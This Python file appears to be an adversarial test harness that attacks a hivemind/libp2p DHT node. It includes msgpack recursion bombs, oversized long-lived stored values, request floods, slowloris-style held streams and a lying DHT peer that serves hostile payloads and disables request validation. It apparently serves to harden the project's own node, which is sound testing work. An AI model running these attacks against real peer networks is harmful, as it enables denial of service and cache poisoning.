"""A peer that attacks the DHT of another one: ``ATTACK TARGET IDENTITY [CERTIFICATE AUTHORITY]``.

Without a certificate it is a stranger. It prints one line for each thing that it tried: what it got. It dials
from the loopback address ATTACK_FROM of its environment, or else from 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from contextlib import closing
from pathlib import Path

import hivemind.dht.node
import msgpack
from hivemind.dht import DHTNode
from hivemind.dht.protocol import DHTProtocol
from hivemind.dht.routing import DHTID
from hivemind.p2p import P2P, P2PContext, PeerID
from hivemind.p2p.p2p_daemon_bindings.utils import ControlFailure, write_unsigned_varint
from hivemind.proto import dht_pb2
from hivemind.utils import MSGPackSerializer
from hivemind.utils.multiaddr import Multiaddr

from node.exchange.hive.authorizer import CertificateAuthorizer, signer_of
from node.exchange.hive.dht_protocol import BoundedDHTProtocol

RUN = "test-run"
PEERS = DHTID.generate(source=f"{RUN}.peers").to_bytes()
GROUP = DHTID.generate(source=f"{RUN}-stage-0.0b1").to_bytes()
_SECONDS = 20.0
SERVICES = ("/libp2p/circuit/relay/0.2.0/hop", "/libp2p/autonat/1.0.0", "/ipfs/kad/1.0.0")
TUPLE, DICTIONARY = 0x40, 0x50  # of hivemind's serializer


def nested(levels: int, code: int = TUPLE) -> bytes:
    """Extension types inside each other, as hivemind's serializer follows them."""
    data = b"\xc0"
    for _ in range(levels):
        inner = b"\x91" + data if code == TUPLE else _items(data)
        data = msgpack.packb(msgpack.ExtType(code, inner))
    return data


def _items(value: bytes) -> bytes:
    """The body of a DictionaryDHTValue whose bound of entries is `value`."""
    return b"\x93" + value + msgpack.packb(0.0) + msgpack.packb([])


class Attacker:
    """A libp2p peer that writes its DHT calls by hand."""

    def __init__(self, p2p: P2P, target: PeerID, authorizer: CertificateAuthorizer | None) -> None:
        self._p2p, self._target, self._authorizer = p2p, target, authorizer
        self.peer = p2p.peer_id.to_base58()

    async def store(
        self,
        key: bytes,
        subkey: object,
        value: bytes,
        seconds: float = 60.0,
        in_cache: bool = False,
        encoded: bool = False,
    ) -> str:
        request = dht_pb2.StoreRequest(
            keys=[key],
            subkeys=[subkey if encoded else MSGPackSerializer.dumps(subkey)],
            values=[value],
            expiration_time=[time.time() + seconds],
            in_cache=[in_cache],
        )
        return await self.call(
            "rpc_store", request, dht_pb2.StoreResponse, lambda answer: str(list(answer.store_ok))
        )

    async def opens(self, protocol: str) -> bool:
        """Whether the target answers streams of `protocol`."""
        try:
            _, _, writer = await self._p2p.call_binary_stream_handler(self._target, protocol)
        except ControlFailure:
            return False
        writer.close()
        return True

    async def hold_question(self, nbytes: int, seconds: float) -> bool:
        """Begin a question to libp2p's own DHT, and wait. Returns whether it was possible."""
        opening = self._p2p.call_binary_stream_handler(self._target, SERVICES[-1])
        try:
            async with asyncio.timeout(seconds):
                _, reader, writer = await opening
                with closing(writer):
                    await write_unsigned_varint(writer, nbytes)
                    writer.write(bytes(nbytes - 1))
                    await reader.read(1)
        except (ControlFailure, OSError, TimeoutError):
            await asyncio.sleep(0.01)
            return False
        return True

    async def find(self, keys: list[bytes]) -> str:
        request = dht_pb2.FindRequest(keys=keys)
        return await self.call(
            "rpc_find", request, dht_pb2.FindResponse, lambda answer: f"{answer.ByteSize()}"
        )

    async def call(self, name: str, request: object, answer: type, shown: Callable[[object], str]) -> str:
        if self._authorizer is not None:
            await self._authorizer.sign_request(request, self._target.to_base58())
        calling = self._p2p.call_protobuf_handler(self._target, f"DHTProtocol.{name}", request, answer)
        try:
            return shown(await asyncio.wait_for(calling, _SECONDS))
        except Exception as error:
            return f"refused: {type(error).__name__}"


async def store_nested(attacker: Attacker) -> list[str]:
    """Values, dictionaries and subkeys that hold extension types inside each other."""
    own = attacker.peer
    return [
        await attacker.store(PEERS, b"", nested(150, DICTIONARY), encoded=True),
        await attacker.store(PEERS, b"", nested(10_000), encoded=True),
        await attacker.store(PEERS, nested(300), b"\xc0", encoded=True),
        await attacker.store(PEERS, own, nested(300)),
        await attacker.store(GROUP, own, nested(150, DICTIONARY)),
        await attacker.store(DHTID.generate(source="unknown").to_bytes(), None, nested(300)),
    ]


async def store_large(attacker: Attacker) -> list[str]:
    """30 values of 3 MiB for 10^9 seconds, of known and of unknown keys."""
    value = MSGPackSerializer.dumps(bytes(3 << 20))

    async def store(number: int) -> str:
        key = DHTID.generate(source=f"unknown {number}").to_bytes()
        subkey = None if number % 2 else attacker.peer
        return await attacker.store(key, subkey, value, 1e9, in_cache=number % 3 == 0)

    return list(await asyncio.gather(*map(store, range(30))))


async def store_unknown(attacker: Attacker) -> list[str]:
    """Small values that hetnode never writes, and one that it does."""
    flag = MSGPackSerializer.dumps(True)
    own = PeerID.from_base58(attacker.peer).to_bytes()
    unknown = DHTID.generate(source="unknown").to_bytes()
    dictionary = DHTProtocol.serializer.dumps({})
    return [
        await attacker.store(unknown, own, flag, 5),
        await attacker.store(unknown, None, flag, 5),
        await attacker.store(GROUP, own, flag, 1e9),
        await attacker.store(GROUP, own, MSGPackSerializer.dumps("x" * 1000), 5),
        await attacker.store(GROUP, b"\0" * 38, flag, 5),
        await attacker.store(GROUP, own, flag, 5, in_cache=True),
        await attacker.store(GROUP, b"", dictionary, 5, encoded=True),
        await attacker.store(GROUP, own, flag, float("nan")),
        await attacker.store(GROUP, own, flag, 5),
    ]


async def use_services(attacker: Attacker) -> list[str]:
    """What p2pd itself offers to every peer."""
    return [f"{name} {await attacker.opens(name)}" for name in SERVICES]


async def flood(attacker: Attacker) -> list[str]:
    """For 30 seconds, 1,000 calls at a time, each as large as a call may be."""
    ends = time.monotonic() + 30.0

    async def repeat() -> int:
        calls = 0
        while time.monotonic() < ends:
            await attacker.find([bytes(450_000)])
            calls += 1
        return calls

    return [f"{sum(await asyncio.gather(*(repeat() for _ in range(1000))))} calls"]


async def flood_libp2p(attacker: Attacker) -> list[str]:
    """For 15 seconds, 300 large questions at a time to libp2p's own DHT, each without its last byte."""
    ends = time.monotonic() + 15.0

    async def repeat() -> int:
        questions = 0
        while time.monotonic() < ends:
            questions += await attacker.hold_question(1_000_000, ends - time.monotonic())
        return questions

    return [f"{sum(await asyncio.gather(*(repeat() for _ in range(300))))} questions"]


ATTACKS: Mapping[str, Callable[[Attacker], Awaitable[list[str]]]] = {
    "nested": store_nested,
    "large": store_large,
    "unknown": store_unknown,
    "services": use_services,
    "flood": flood,
    "flood-libp2p": flood_libp2p,
}


class LyingProtocol(BoundedDHTProtocol):
    """Answers every question with extension types inside each other."""

    _rpc_handlers = _stub_type = None

    async def rpc_find(self, request: dht_pb2.FindRequest, context: P2PContext) -> dht_pb2.FindResponse:
        answer = await super().rpc_find(request, context)
        for result in answer.results:
            result.type = dht_pb2.FOUND_DICTIONARY
            result.value = nested(150, DICTIONARY)
            result.expiration_time = time.time() + 60
        print("lied", flush=True)
        return answer


LyingProtocol.__name__ = DHTProtocol.__name__


async def lie(p2p: P2P, address: str, authorizer: CertificateAuthorizer) -> None:
    """Become a member of the DHT whose answers are hostile, until standard input closes."""
    hivemind.dht.node.DHTProtocol = LyingProtocol
    authorizer.validate_request = _anything  # it answers every peer
    await DHTNode.create(
        p2p,
        DHTID.generate(source=p2p.peer_id.to_base58()),
        [address],
        authorizer=authorizer,
    )
    print("joined", flush=True)
    await asyncio.to_thread(sys.stdin.read)


async def _anything(_: object) -> bool:
    return True


async def attack(name: str, address: str, identity: str, *files: str) -> None:
    authorizer = CertificateAuthorizer(RUN, signer_of(Path(identity)), *map(Path, files)) if files else None
    p2p = await P2P.create(
        initial_peers=[address],
        # libp2p dials from the address on which it listens.
        host_maddrs=[f"/ip4/{os.environ.get('ATTACK_FROM', '127.0.0.1')}/tcp/0"],
        identity_path=identity,
        check_if_identity_free=False,
        nat_port_map=False,
    )
    if name == "lie":
        assert authorizer is not None
        await lie(p2p, address, authorizer)
    else:
        target = PeerID.from_base58(Multiaddr(address)["p2p"])
        for line in await ATTACKS[name](Attacker(p2p, target, authorizer)):
            print(line, flush=True)
    await p2p.shutdown()


def main() -> None:
    asyncio.run(attack(*sys.argv[1:]))


if __name__ == "__main__":
    main()
